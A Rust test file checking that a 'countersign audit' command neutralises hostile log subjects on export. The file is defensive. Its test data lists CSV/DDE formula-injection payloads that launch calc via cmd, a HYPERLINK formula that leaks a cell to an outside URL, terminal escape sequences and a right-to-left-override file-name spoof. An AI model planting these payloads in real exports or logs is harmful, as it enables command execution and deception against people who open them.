//! `countersign audit` over logs that callers wrote parts of.
#![cfg(feature = "operator")]
#![allow(clippy::unwrap_used)]

mod environment;

use std::{
    fs,
    io::{BufWriter, Write as _},
    path::Path,
    process::{Command, Output, Stdio},
};

use serde_json::{Value, json};
use tempfile::TempDir;

/// What somebody may put where a subject goes.
const SUBJECTS: [&str; 14] = [
    "alice",
    "+391234567890",
    "=HYPERLINK(\"https://example.com/?\"&A1,\"error\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "a,b;c|d\te",
    "x\",\"=1+1\",\"",
    "x;=1+1",
    "say \"hi\"",
    "two\r\nlines",
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m",
    "\u{202e}gpj.exe\u{2066}\u{feff}",
    "Zoë 漢字 🦀",
];

fn event(subject: &str) -> String {
    let event = json!({
        "timestamp": "2026-01-02T03:04:05.123456Z", "level": "INFO", "action": "enroll:token", "outcome": "refused",
        "reason": "wrong_code", "request_id": "request-1", "source_ip": "198.51.100.7", "subject": subject, "target": "audit",
    });
    event.to_string()
}

/// A log in which events stand between other lines.
fn log(folder: &TempDir) -> String {
    let mut log = b"START RequestId: request-1\n\xff\xfe\n{\"target\":\"audit\"\n".to_vec();
    for subject in SUBJECTS {
        log.extend(format!("{}\n", event(subject)).into_bytes());
    }
    log.extend(format!("{{\"target\":\"audit\",\"a\":{}\n", "[".repeat(900_000)).into_bytes());
    log.extend(format!("{}\n", event(&"x".repeat(3 << 20))).into_bytes());
    let path = folder.path().join("audit.jsonl");
    fs::write(&path, log).unwrap();
    path.to_str().unwrap().to_owned()
}

fn audit(arguments: &[&str]) -> Output {
    let mut command = environment::countersign();
    // Which stack it would be says nothing of a file.
    command.env("COUNTERSIGN_STACK", "other").arg("audit").args(arguments).stdin(Stdio::null());
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    output
}

fn printed(arguments: &[&str]) -> String {
    String::from_utf8(audit(arguments).stdout).unwrap()
}

/// What Python's `csv` makes of CSV with this separator: of each row a list.
fn rows(csv: &str, separator: &str) -> Vec<Vec<String>> {
    let script = "import csv, json, sys\n\
                  text = open(sys.argv[1], newline='', encoding='utf-8')\n\
                  json.dump(list(csv.reader(text, delimiter=sys.argv[2], strict=True)), sys.stdout)";
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("audit.csv"), csv).unwrap();
    let output =
        Command::new("python3").args(["-c", script, "audit.csv", separator]).current_dir(folder.path()).output();
    let output = output.unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn csv_is_read_by_another_reader_as_it_was_written() {
    let folder = tempfile::tempdir().unwrap();
    let log = log(&folder);
    for (option, separator) in [(",", ","), (";", ";"), ("tab", "\t"), ("|", "|")] {
        let csv = printed(&["--file", &log, "--format", "csv", "--separator", option]);
        let rows = rows(&csv, separator);
        let column = |name: &str| rows[0].iter().position(|column| column == name).unwrap();
        assert_eq!(rows.len(), SUBJECTS.len() + 1, "{option}");
        assert!(rows.iter().all(|row| row.len() == rows[0].len()), "{option}");
        for (row, subject) in rows[1..].iter().zip(SUBJECTS) {
            assert_eq!(row[column("timestamp")], "2026-01-02T03:04:05.123456Z");
            assert_eq!(
                (row[column("source_ip")].as_str(), row[column("outcome")].as_str()),
                ("198.51.100.7", "refused")
            );
            // What is not defused is as it was.
            let got = row[column("subject")].replace('\'', "");
            assert_eq!(got.chars().count(), subject.replace('\'', "").chars().count(), "{subject}");
        }
        let plain =
            rows.iter().filter(|row| ["alice", "say \"hi\"", "Zoë 漢字 🦀"].contains(&row[column("subject")].as_str()));
        assert_eq!(plain.count(), 3);
    }
}

#[test]
fn no_cell_of_csv_is_a_formula_by_whatever_separator_it_is_read() {
    let folder = tempfile::tempdir().unwrap();
    let log = log(&folder);
    for written in [",", ";", "tab", "|"] {
        let csv = printed(&["--file", &log, "--format", "csv", "--separator", written]);
        for read in [',', ';', '\t', '|'] {
            for cell in csv.split([read, '\n']) {
                let cell = cell.trim_start_matches(|character: char| character == '"' || character.is_whitespace());
                assert!(!cell.starts_with(['=', '+', '-', '@']), "{written} as {read:?}: {cell}");
            }
        }
    }
}

#[test]
fn a_terminal_is_told_nothing_that_it_would_obey_and_damaged_lines_are_counted() {
    let folder = tempfile::tempdir().unwrap();
    let log = log(&folder);
    for arguments in
        [&[][..], &["--format", "json"], &["--format", "csv"], &["--top", "3"], &["--top", "3", "--format", "json"]]
    {
        let output = audit(&[&["--file", &log], arguments].concat());
        let printed = String::from_utf8(output.stdout).unwrap();
        assert!(!printed.contains(|character: char| character.is_control() && character != '\n'), "{arguments:?}");
        assert!(!printed.contains(['\u{202e}', '\u{2066}', '\u{feff}']), "{arguments:?}");
        assert!(printed.len() < 100_000, "{arguments:?}");
        assert_eq!(String::from_utf8(output.stderr).unwrap(), "lines that are damaged: 4\n");
    }
}

#[test]
fn json_is_what_was_logged() {
    let folder = tempfile::tempdir().unwrap();
    let printed = printed(&["--file", &log(&folder), "--format", "json"]);
    let read = |line: &str| serde_json::from_str::<Value>(line).unwrap();
    assert_eq!(printed.lines().map(read).collect::<Vec<_>>(), SUBJECTS.map(|subject| read(&event(subject))));
}

#[test]
fn a_log_may_be_larger_than_memory() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("audit.jsonl");
    let mut log = BufWriter::new(fs::File::create(&path).unwrap());
    for number in 0..30_000 {
        writeln!(log, "{}", event(&format!("{number}{}", "x".repeat(1_000)))).unwrap();
    }
    log.into_inner().unwrap();
    for arguments in ["", "--format csv", "--format json"] {
        let limited = format!("ulimit -d 20000; exec \"$0\" audit --file \"$1\" {arguments} | wc -l");
        let mut shell = environment::command("bash");
        shell.args(["-o", "pipefail", "-c", &limited, env!("CARGO_BIN_EXE_countersign")]).arg(&path);
        let output = shell.output().unwrap();
        assert!(output.status.success(), "{arguments}: {}", String::from_utf8_lossy(&output.stderr));
        let lines: usize = String::from_utf8(output.stdout).unwrap().trim().parse().unwrap();
        assert!(lines >= 30_000, "{arguments}: {lines}");
    }
    assert!(fs::metadata(Path::new(&path)).unwrap().len() > 30_000_000);
}

#[test]
fn a_reader_that_has_enough_is_no_error() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("audit.jsonl");
    fs::write(&path, format!("{}\n", event("alice")).repeat(5_000)).unwrap();
    let script = "\"$0\" audit --file \"$1\" | head -1; exit ${PIPESTATUS[0]}";
    let output = environment::command("bash")
        .args(["-c", script, env!("CARGO_BIN_EXE_countersign")])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    assert!(output.status.success());
}
